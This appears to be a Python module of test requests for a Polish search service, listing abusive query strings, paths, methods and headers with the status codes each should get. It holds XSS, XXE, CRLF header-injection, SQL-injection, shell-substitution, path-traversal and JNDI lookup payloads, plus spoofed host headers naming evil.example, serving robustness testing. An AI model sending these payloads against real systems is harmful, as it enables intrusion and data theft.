"""Requests that nobody sends by mistake, a row each: what is asked, and the statuses that are a right answer to it."""

from dataclasses import dataclass, field
from urllib.parse import quote, quote_from_bytes

MARK = "k7wstrzyk"  # stands in every injected text: wherever it turns up, that text has been reflected

PARAMETERS = ("q", "page", "size", "sort", "lang", "format", "collection", "powiat", "stan_na", "nieznany")


@dataclass(frozen=True)
class Request:
    name: str
    query: bytes
    method: str = "GET"
    path: str = ""
    headers: dict[str, bytes] = field(default_factory=dict)
    statuses: tuple[int, ...] = (200,)

    def asked_as(self, form: str) -> "Request":
        """The same in another format, named first so that it counts."""
        query = b"format=" + form.encode() + b"&" + self.query
        return Request(f"{self.name} as {form}", query, self.method, self.path, self.headers, (200, 400, *self.statuses))


def get(name: str, query: str | bytes, *statuses: int, **more) -> Request:
    raw = query if isinstance(query, bytes) else query.encode("utf-8")
    return Request(name, raw, statuses=statuses or (200,), **more)


# Texts that would do something if they were let into a page as they are.
INJECTED = {
    "a script": f"<script>{MARK}()</script>",
    "an image with a handler": f'"><img src=x onerror={MARK}()>',
    "an attribute": f"' onfocus='{MARK}()' autofocus='",
    "an attribute after double quotes": f'" onfocus="{MARK}()" autofocus x="',
    "an SVG": f"<svg/onload={MARK}()><animate onbegin={MARK}() attributeName=x>",
    "a style": f"</title></style><style>@import '//{MARK}.example'</style>",
    "a style of its own": f'" style="background:url(//{MARK}.example)',
    "the end of a text area": f"</textarea></select></noscript><iframe srcdoc='<b>{MARK}'>",
    "a comment": f"<!--{MARK}--!><!--",
    "a base and a refresh": f'<base href=//{MARK}.example><meta http-equiv=refresh content="0;url=//{MARK}.example">',
    "a script's address": f"javascript:{MARK}()",
    "an address of data": f"data:text/html,<b>{MARK}</b>",
    "a template's value": "{{{title}}} {{" + MARK + "}}",
    "a template's section": "{{#results}}" + MARK + "{{/results}}{{^x}}{{/y}}",
    "other delimiters": "{{=<% %>=}}<%" + MARK + "%>",
    "the place for results": f"<!--kronika:results-->{MARK}<!--kronika:title-->",
    "entities": f"&lt;b&gt;{MARK}&#60;b&#62;&lt",
    "CDATA": f"<![CDATA[{MARK}]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]>",
    "a header": f"x\r\nX-{MARK}: 1\r\nSet-Cookie: {MARK}=1\r\n\r\n<b>",
    "a formula": f"=HYPERLINK(\"//{MARK}.example\")",
    "UTF-7": f"+ADw-script+AD4-{MARK}()+ADw-/script+AD4-",
    "an overlong bracket": "\udcc0\udcbc" + f"b>{MARK}\udce0\udc80\udcbe",
}


def injections() -> list[Request]:
    """Each text in each parameter. What a parameter cannot be is refused."""
    out = []
    for what, text in INJECTED.items():
        value = quote_from_bytes(text.encode("utf-8", "surrogateescape"), safe="")
        for parameter in PARAMETERS:
            refused = parameter in ("page", "size", "sort", "lang", "format", "stan_na")
            out.append(get(f"{what} in {parameter}", f"{parameter}={value}", 400 if refused else 200))
        out.append(get(f"{what} everywhere", "&".join(f"{each}={value}" for each in PARAMETERS), 400))
        raw = text.encode("utf-8", "surrogateescape").replace(b"&", b"").replace(b"#", b"")
        out.append(get(f"{what}, not encoded", b"q=" + raw + b"&powiat=" + raw))
        out.append(get(f"{what} as a name", f"{value}={value}"))
    return out


LENGTHS = [
    get("nothing", ""),
    get("ampersands", "&" * 8000),
    get("an address as long as can be", "x=" + "a" * 8190),
    get("an address one byte longer", "x=" + "a" * 8191, 400),
    get("a very long address", "q=" + "a" * 100_000, 400),
    get("a word as long as a query", "q=" + "a" * 1000),
    get("a query one byte longer", "q=" + "a" * 1001, 400),
    get("a word of thousand letters of two bytes", "q=" + "%C5%82" * 500),
    get("a query of broken bytes that grows when it is mended", b"q=" + b"\xff" * 1000, 400),
    get("broken bytes that stay short", b"q=" + b"\xff" * 333),
    get("fifty words", "q=" + "+".join(f"slowo{i}" for i in range(50))),
    get("fifty-one words", "q=" + "+".join(f"slowo{i}" for i in range(51)), 400),
    get("five hundred words", "q=" + "a+" * 500, 400),
    get("fifty stop words", "q=" + "+".join(("w", "z", "i", "na", "do") * 10)),
    get("fifty times one word", "q=" + "+".join(["powiat"] * 50)),
    get("fifty usual words", "q=" + "+".join(("praca", "gmina", "osoba", "szkola", "dom") * 10)),
    get("fifty words that nobody knows", "q=" + "+".join("zaslonecoles" + chr(97 + i % 26) * 6 for i in range(50))),
    get("one long word that nobody knows", "q=" + "zaslonecoles" * 3),
    get("a page that is too far", "q=praca&page=501", 400),
    get("the last page", "q=praca&page=500"),
    get("a huge page", "page=99999999999999999999999999", 400),
    get("a page of two to the 31st", "page=2147483648", 400),
    get("a page of two to the 64th", "page=18446744073709551617", 400),
    get("a page before the first", "page=-1", 400),
    get("page 0", "page=0", 400),
    get("a page in hexadecimal", "page=0x10", 400),
    get("a page with an exponent", "page=1e3", 400),
    get("a page that is no number", "page=NaN", 400),
    get("a page in Arabic digits", "page=%D9%A1", 400),
    get("a page with a plus", "page=%2B1", 400),
    get("a huge size", "size=2147483647", 400),
    get("a negative size", "size=-2147483648", 400),
    get("size 0", "size=0", 400),
    get("the greatest size", "size=100&q=powiat"),
    get("a size and a page whose product overflows", "size=100&page=2147483647", 400),
    get("a small size and the last page", "size=1&page=10000"),
    get("thousands of parameters", "&".join(f"p{i}=1" for i in range(1000)), 400),
    get("thousands of equal signs", "=" * 8000),
    get("two hundred parameters", "&".join(f"p{i}=1" for i in range(200))),
    get("thousands of values", "&".join(f"powiat={i}" for i in range(600)), 400),
    get("sixty values", "&".join(f"powiat={i}" for i in range(60))),
    get("sixty-one values", "&".join(f"powiat={i}" for i in range(61)), 400),
    get("the same value two hundred times", "&".join(["powiat=kielecki"] * 200)),
    get("a value that is too long", "powiat=" + "x" * 301, 400),
    get("a value that grows when it is mended", b"powiat=" + b"\xfe" * 101, 400),
    get("values that are too long together", "&".join(f"powiat={i:03}" + "%C5%82" * 100 for i in range(12)), 400),
    get("every value of a facet that does not exist", "&".join(f"wojewodztwo={i}" for i in range(150))),
]

BYTES = [
    get("NUL in the middle", "q=pra%00ca"),
    get("only NUL", "q=%00%00%00"),
    get("control characters", "q=" + "".join(f"%{i:02X}" for i in range(32)) + "%7F"),
    get("control characters in a filter", "powiat=" + "".join(f"%{i:02X}" for i in range(32))),
    get("raw control characters", b"q=" + bytes(range(1, 32)) + b"\x7f"),
    get("C1 control characters", "q=" + "".join(f"%C2%{i:02X}" for i in range(0x80, 0xA0))),
    get("line and paragraph separators", "q=a%E2%80%A8b%E2%80%A9c"),
    get("noncharacters", "q=" + quote("\ufffe\uffff\ufdd0\ufdef\U0001fffe\U0010ffff")),
    get("surrogates", "q=%ED%A0%80%ED%BF%BF"),
    get("above the last code point", "q=%F4%90%80%80%F8%88%80%80%80"),
    get("an overlong slash", "q=%C0%AF%E0%80%AF%F0%80%80%AF"),
    get("an overlong NUL", "q=%C0%80"),
    get("a letter cut short", "q=za%C5&powiat=%E2%80"),
    get("continuation bytes alone", "q=" + "%80" * 100),
    get("every byte", b"q=" + bytes(b for b in range(1, 256) if b not in b"&#+")),
    get("percent codes cut short", "q=%&powiat=%C&x=%"),
    get("percent codes that are none", "q=%zz%G1%-1%%%25"),
    get("percent codes of percent codes", "q=%2525253Cb%2525253E"),
    get("old Unicode codes", "q=%u0141%u003Cb%u003E"),
    get("windows-1250", b"q=sp\xf3\xb3dzielnia"),
    get("UTF-16", "q=%FF%FEk%00o%00t%00"),
    get("a byte order mark", "q=%EF%BB%BFpraca"),
    get("right to left", "q=" + quote("\u202e" * 50 + "praca\u2066\u2067\u2068\u202a")),
    get("right to left in a filter", "powiat=" + quote("\u202egpj.exe")),
    get("letters of no width", "q=" + quote("p\u200br\u200ca\u200dc\u2060a\ufeff" * 9)),
    get("a flood of accents", "q=" + quote("a" + "\u0301\u0316\u0489" * 150)),
    get("accents alone", "q=" + quote("\u0301" * 300)),
    get("soft hyphens alone", "q=" + quote("\u00ad" * 300)),
    get("decomposed letters", "q=" + quote("spo\u0301l\u0328dzielnia")),
    get("tag characters", "q=" + quote("".join(chr(0xE0020 + i) for i in range(80)))),
    get("letters for private use", "q=" + quote("\ue000\U000f0000")),
    get("emoji with joiners", "q=" + quote("👩‍👩‍👧‍👦" * 20)),
    get("wide letters", "q=" + quote("ＳＰÓＬＤＺＩＥＬＮＩＡ 日本語 한국어")),
    get("letters that grow when they change case", "q=" + quote("ŉßİﬃ" * 40)),
    get("the longest word of other scripts", "q=" + quote("𐐀" * 250)),
    get("digits of other scripts", "q=" + quote("١٢٣ ௧௨௩ 𝟙𝟚𝟛")),
]

SYNTAX = [
    get("a beginning of one letter", "q=a*"),
    get("an asterisk", "q=*"),
    get("asterisks", "q=" + "*" * 1000),
    get("eight beginnings", "q=" + "+".join(f"{c}o*" for c in "pskrdwnz")),
    get("nine beginnings", "q=" + "+".join(f"{c}o*" for c in "pskrdwnzt"), 400),
    get("fifty beginnings", "q=" + "+".join(f"{a}{b}*" for a in "pskrdwnztb" for b in "oaiey"), 400),
    get("beginnings of one letter", "q=" + "+".join(f"{c}*" for c in "abcdefghijklmnopqrstuvwxyz"), 400),
    get("beginnings that are excluded", "q=" + "+".join(f"-{c}o*" for c in "pskrdwnz")),
    get("beginnings of fields", "q=" + "+".join(f"powiat:{c}o*" for c in "pskrdwnz")),
    get("products", "q=2*3*4*5*6*7*8*9*10*11*12"),
    get("a beginning with accents", "q=" + quote("sp\u0301\u0301*")),
    get("quotation marks", "q=" + '"' * 1000),
    get("quotation marks of all kinds", "q=" + quote("„“”«»\"'‚‘’" * 30)),
    get("quotation marks that are not closed", "q=%22praca+%22dom+%22szkola"),
    get("quotation marks within each other", "q=" + quote('"a „b «c "d" c» b” a"' * 2)),
    get("empty phrases", "q=" + "%22%22+" * 200),
    get("a phrase of fifty words", "q=%22" + "+".join(["praca"] * 50) + "%22"),
    get("phrases that are excluded", "q=" + "+".join('-%22praca+dom%22' for _ in range(25))),
    get("only what is excluded", "q=-praca"),
    get("fifty words excluded", "q=" + "+".join("-praca" for _ in range(50))),
    get("minus signs", "q=" + "-" * 1000),
    get("minus signs apart", "q=" + "-+" * 500),
    get("parentheses", "q=" + "(" * 1000),
    get("parentheses with NOT", "q=" + "NOT+(" * 45),
    get("parentheses with NOT, more", "q=" + "AND+NOT+(" * 100, 400),
    get("closing parentheses", "q=" + ")" * 500 + "(" * 500),
    get("AND, OR, NOT, XOR, NEAR and ADJ", "q=AND+OR+NOT+XOR+NEAR+ADJ"),
    get("OR alone", "q=OR+OR+OR+LUB+LUB"),
    get("a chain of OR", "q=" + "+OR+".join(["praca"] * 25)),
    get("a chain of OR that begins and ends with it", "q=OR+praca+OR+OR+LUB+dom+OR"),
    get("OR with what is excluded", "q=praca+OR+-dom+OR+-%22a+b%22"),
    get("a chain of AND", "q=" + "+AND+".join(["praca"] * 25)),
    get("colons", "q=" + ":" * 1000),
    get("fields in fields", "q=" + "powiat:" * 45 + "x"),
    get("a field of nothing", "q=powiat:+powiat:%22%22+powiat:-"),
    get("a field that does not exist", "q=XYZ:praca+Z:praca"),
    get("terms as the index writes them", "q=Zpraca+XPOWIAT:Zbuski+Lpl+Epraca"),
    get("dots", "q=" + "." * 1000),
    get("letters with dots", "q=" + ".".join("a" for _ in range(49))),
    get("many letters with dots", "q=" + "a." * 500, 400),
    get("digits", "q=" + "1" * 1000),
    get("groups of digits", "q=" + "+".join(["526"] * 49)),
    get("groups of digits with hyphens", "q=" + "-".join(["12"] * 49)),
    get("addresses of e-mail", "q=" + "+".join(["a@b.c"] * 16)),
    get("at signs", "q=" + "@" * 1000),
    get("backslashes", "q=" + quote("\\" * 900)),
    get("SQL", "q=" + quote("' OR 1=1; DROP TABLE strony; --")),
    get("a shell", "q=" + quote("$(id)`id`;id|id&&id>/tmp/x")),
    get("a path", "q=" + quote("../../../../etc/passwd\0")),
    get("a format string", "q=" + quote("%s%n%x%p" * 12)),
    get("a lookup", "q=" + quote("${jndi:ldap://example.org/a}")),
    get("a regular expression that takes long", "q=" + quote("(a+)+$" * 20)),
    get("a misspelt query with signs", "q=" + quote("<spoldzielnai> & \"wartszaty\"")),
]

SUGGESTIONS = [
    get(f"completing {what}", f"format=suggest&q={quote(text, safe='')}")
    for what, text in {
        "nothing": "", "a space": " ", "a letter": "a", "two letters": "sp", "a sign": "<", "a NUL": "\0",
        "a quotation mark": '"', "a tab": "sp\tx", "a line": "sp\nx", "a thousand letters": "s" * 1000,
        "fifty words": "s " * 49, "an asterisk": "sp*", "accents": "a" + "\u0301" * 200, "a script": f"</script>{MARK}",
        "right to left": "\u202esp", "JSON": '"],["', "a separator": "\u2028", "an emoji": "😀",
    }.items()
]  # fmt: skip

NAMES = [
    get("q twice", "q=praca&q=%3Cb%3E"),
    get("q in capitals", "Q=praca"),
    get("an array", "q[]=praca&powiat[]=kielecki&powiat[0]=x"),
    get("an object", "q[__proto__][x]=1&__proto__=1&constructor=1"),
    get("semicolons", "q=praca;page=0;format=exe"),
    get("a name of nothing", "=x&=&=="),
    get("a filter of nothing", "powiat=&powiat=+&powiat=%00"),
    get("a day of nothing", "stan_na=&stan_na=2025-06-30"),
    get("a day twice", "stan_na=2025-06-30&stan_na=%3Cb%3E"),
    get("a day that does not exist", "stan_na=2025-02-29", 400),
    get("a day before all", "stan_na=0000-00-00", 400),
    get("a day after all", "stan_na=9999-12-31", 400),
    get("a day of a long year", "stan_na=" + "9" * 300 + "-01-01", 400),
    get("a negative day", "stan_na=-2025-06-30", 400),
    get("a day with a zone", "stan_na=2025-06-30T00:00:00Z", 400),
    get("filters of other cases", "POWIAT=kielecki&Powiat=buski"),
    get("a facet that does not exist", "nieznany=kielecki"),
    get("a language that does not exist", "lang=xx", 400),
    get("a language as a path", "lang=../../../etc/passwd%00", 400),
    get("a language with a wildcard", "lang=*", 400),
    get("an order that does not exist", "sort=RELEVANCE", 400),
    get("an order by a field", "sort=powiat", 400),
    get("a format that does not exist", "format=exe", 400),
    get("a format in capitals", "format=HTML", 400),
    get("a format as a path", "format=../html", 400),
    get("two formats", "format=json&format=html"),
    get("a format with a space", "format=json+", 400),
]

METHODS = [
    Request(f"the method {method or 'of nothing'}", b"q=praca", method=method, statuses=statuses)
    for method, statuses in {
        "HEAD": (200,), "": (200,), "POST": (405,), "PUT": (405,), "DELETE": (405,), "OPTIONS": (405,), "TRACE": (405,),
        "CONNECT": (405,), "PATCH": (405,), "PROPFIND": (405,), "get": (405,), "GET ": (405,), "GET\r\nX: y": (405,),
        "<b>": (405,), "G" * 10_000: (405,),
    }.items()
]  # fmt: skip

PATHS = [
    Request(f"the path {path[:40]!r}", b"q=praca", path=path, statuses=statuses)
    for path, statuses in {
        "/szukaj": (200,), "/szukaj/": (200,), "/": (200,), "//": (404,), "/../../etc/passwd": (404,),
        "/%2e%2e/%2e%2e/etc/passwd": (404,), "/szukaj/../search.toml": (404,), "/search.toml": (404,),
        "\\..\\..": (404,), "/<script>alert(1)</script>": (404,), "/szukaj\r\nX: y": (404,), "/" + "a/" * 5000: (404,),
        "/szukaj?q=x": (404,), "/szukaj//": (404,), "/SZUKAJ": (404,), "/\udcff\udcfe": (404,),
    }.items()
]  # fmt: skip

HEADERS = [
    Request(f"If-None-Match: {value[:30]!r}", b"q=praca", headers={"HTTP_IF_NONE_MATCH": value}, statuses=statuses)
    for value, statuses in {
        b"": (200,), b"*": (304,), b" * ": (304,), b"**": (200,), b'"': (200,), b'""': (200,), b'W/""': (200,),
        b"W/": (200,), b",": (200,), b",,,,": (200,), b'"a", "b", W/"c"': (200,), b'"' * 5000: (200,),
        b'W/"' + b"a" * 60_000 + b'"': (200,), b'"a",' * 10_000: (200,), b"\r\nX: y": (200,), b"\xff\xfe\x01": (200,),
        b"<script>": (200,),
    }.items()
] + [
    Request("other headers", b"q=praca", headers={
        "HTTP_HOST": b"evil.example", "HTTP_X_FORWARDED_HOST": b"evil.example", "HTTP_X_FORWARDED_PROTO": b"javascript",
        "HTTP_PROXY": b"http://evil.example", "HTTP_COOKIE": b"a=<b>", "HTTP_RANGE": b"bytes=0-1,2-3", "HTTP_ACCEPT": b"\xff",
        "HTTP_ACCEPT_ENCODING": b"gzip, br", "HTTP_TRANSFER_ENCODING": b"chunked", "CONTENT_LENGTH": b"-1",
        "HTTP_KRONIKA_SEARCH_DIR": b"/nowhere", "CONTENT_TYPE": b"multipart/form-data; boundary=" + b"-" * 5000,
    }),
    Request("variables of libraries", b"q=praca", headers={
        "XAPIAN_FLUSH_THRESHOLD": b"-1", "XAPIAN_MAX_CHANGESETS": b"99999999999", "XAPIAN_CJK_NGRAM": b"1",
        "LANG": b"tr_TR.UTF-8", "LC_ALL": b"xx_XX.<b>", "TZ": b"/etc/passwd", "FCGI_WEB_SERVER_ADDRS": b"10.0.0.1",
    }),
]  # fmt: skip


def requests() -> list[Request]:
    out = [*injections(), *LENGTHS, *BYTES, *SYNTAX, *SUGGESTIONS, *NAMES, *METHODS, *PATHS, *HEADERS]
    names = [each.name for each in out]
    assert len(set(names)) == len(names), "two requests of one name"
    return out
